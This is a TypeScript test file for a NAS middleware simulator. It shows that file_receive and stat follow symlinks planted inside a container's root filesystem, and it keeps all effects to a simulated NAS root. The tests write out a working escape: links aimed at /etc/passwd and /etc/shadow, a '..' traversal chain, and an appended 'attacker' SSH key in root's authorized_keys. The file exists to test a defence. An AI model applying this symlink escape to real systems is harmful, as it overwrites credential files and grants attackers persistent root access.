// filesystem.file_receive and filesystem.stat follow symlinks the way the real middleware does as root on the NAS
// (plain open()/os.makedirs(), statx without following the last component): a link planted inside a sandbox's
// root filesystem reaches the NAS's own files. These tests show the attack really works on the simulator (so the
// product's defence is tested against something that bites), and that it only ever bites the simulator's
// NAS-root stand-in, never this machine.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { startSimulator, type SimServer } from '../sim/index.js';
import { RawClient, type Frame } from '../sim/rawclient.js';

const KEY = `1-${'a'.repeat(64)}`;
const DS = (name: string) => `tank/.ix-virt/containers/${name}`;
const ROOTFS = (name: string) => `/var/lib/incus/storage-pools/tank/containers/${name}/rootfs`;
const b64 = (text: string) => Buffer.from(text).toString('base64');

describe('simulator file_receive / stat with the NAS own symlink semantics (memory engine)', () => {
  let sim: SimServer;
  let c: RawClient;
  const plant = (path: string, target: string) => sim.engine.symlink!(DS('px-a'), `rootfs${path}`, target);
  const nas = (path: string) => readFileSync(join(sim.nasRoot, path), 'utf8');
  const inside = async (path: string) => (await sim.engine.readFile(DS('px-a'), `rootfs${path}`))?.toString();

  before(async () => {
    sim = await startSimulator({ version: '25.10', apiKey: KEY, jobDurationMs: 10 });
    c = await RawClient.connect(sim.url);
    await c.login(KEY);
    await c.call('core.subscribe', ['core.get_jobs']);
    const job = await c.call<number>('virt.instance.create', [{ name: 'px-a', image: 'debian/12' }]);
    assert.equal((await c.jobEnd(job)).state, 'SUCCESS');
    await c.call('filesystem.file_receive', [`${ROOTFS('px-a')}/etc/os-release`, b64('debian\n')]);
  });
  after(async () => {
    c.close();
    await sim.close();
  });

  it('an absolute link in the last component is followed from the NAS root: the NAS file is overwritten', async () => {
    const realPasswd = readFileSync('/etc/passwd');
    await plant('/etc/hostname', '/etc/passwd');
    assert.equal(
      await c.call('filesystem.file_receive', [`${ROOTFS('px-a')}/etc/hostname`, b64('px-a\n')]),
      true,
    );
    assert.equal(nas('etc/passwd'), 'px-a\n', "the NAS's /etc/passwd (stand-in) was overwritten");
    assert.deepEqual(readFileSync('/etc/passwd'), realPasswd, "this machine's /etc/passwd is untouched");
    const st = await c.call<Frame>('filesystem.stat', [`${ROOTFS('px-a')}/etc/hostname`]);
    assert.equal(st.type, 'SYMLINK');
    assert.equal(st.realpath, '/etc/passwd');
  });

  it('a linked directory is followed by makedirs and open: an append lands in the NAS root authorized_keys', async () => {
    const before = nas('root/.ssh/authorized_keys');
    await plant('/root/.ssh', '/root/.ssh');
    await c.call('filesystem.file_receive', [
      `${ROOTFS('px-a')}/root/.ssh/authorized_keys`,
      b64('ssh-ed25519 AAAA attacker\n'),
      { append: true, mode: 0o600 },
    ]);
    assert.equal(nas('root/.ssh/authorized_keys'), `${before}ssh-ed25519 AAAA attacker\n`);
    const dir = await c.call<Frame>('filesystem.stat', [`${ROOTFS('px-a')}/root/.ssh`]);
    assert.equal(dir.type, 'SYMLINK');
    // A component below the link is stat'ed through it (only the last component is not followed).
    const file = await c.call<Frame>('filesystem.stat', [`${ROOTFS('px-a')}/root/.ssh/authorized_keys`]);
    assert.equal(file.type, 'FILE');
  });

  it('a relative link stays inside the root filesystem; ".." climbs out like on the host', async () => {
    await plant('/etc/alias', 'os-release');
    await c.call('filesystem.file_receive', [`${ROOTFS('px-a')}/etc/alias`, b64('changed\n')]);
    assert.equal(await inside('/etc/os-release'), 'changed\n');
    // rootfs/../../../../../../etc/shadow from rootfs/etc: out of the rootfs, to the NAS root.
    await plant('/etc/up', '../../../../../../../../../etc/shadow');
    await c.call('filesystem.file_receive', [`${ROOTFS('px-a')}/etc/up`, b64('pwned\n')]);
    assert.equal(nas('etc/shadow'), 'pwned\n');
  });

  it('a dangling link is "not found" for stat, and file_receive creates its target', async () => {
    await plant('/etc/dangling', '/etc/new-on-nas');
    const missing = await c.request('filesystem.stat', [`${ROOTFS('px-a')}/etc/dangling`]);
    assert.equal(missing.error?.data?.error, 2);
    await c.call('filesystem.file_receive', [`${ROOTFS('px-a')}/etc/dangling`, b64('made\n')]);
    assert.equal(nas('etc/new-on-nas'), 'made\n');
    const nowThere = await c.call<Frame>('filesystem.stat', [`${ROOTFS('px-a')}/etc/dangling`]);
    assert.equal(nowThere.type, 'SYMLINK');
  });

  it('a loop of links fails with ELOOP', async () => {
    await plant('/etc/loop1', '/var/lib/incus/storage-pools/tank/containers/px-a/rootfs/etc/loop2');
    await plant('/etc/loop2', '/var/lib/incus/storage-pools/tank/containers/px-a/rootfs/etc/loop1');
    const loop = await c.request('filesystem.file_receive', [`${ROOTFS('px-a')}/etc/loop1`, b64('x')]);
    assert.match(String(loop.error?.data?.reason), /Too many levels of symbolic links/);
  });

  it('a stopped instance is not mounted: its mountpoint is a plain directory of the NAS root', async () => {
    assert.equal(
      (await c.jobEnd(await c.call<number>('virt.instance.stop', ['px-a', { timeout: 5 }]))).state,
      'SUCCESS',
    );
    const path = `${ROOTFS('px-a')}/etc/hostname`;
    const st = await c.request('filesystem.stat', [path]);
    assert.equal(st.error?.data?.error, 2, 'the link is in the unmounted dataset, invisible now');
    await c.call('filesystem.file_receive', [path, b64('shadowed\n')]);
    assert.equal(nas(`var/lib/incus/storage-pools/tank/containers/px-a/rootfs/etc/hostname`), 'shadowed\n');
    assert.equal((await c.jobEnd(await c.call<number>('virt.instance.start', ['px-a']))).state, 'SUCCESS');
  });
});
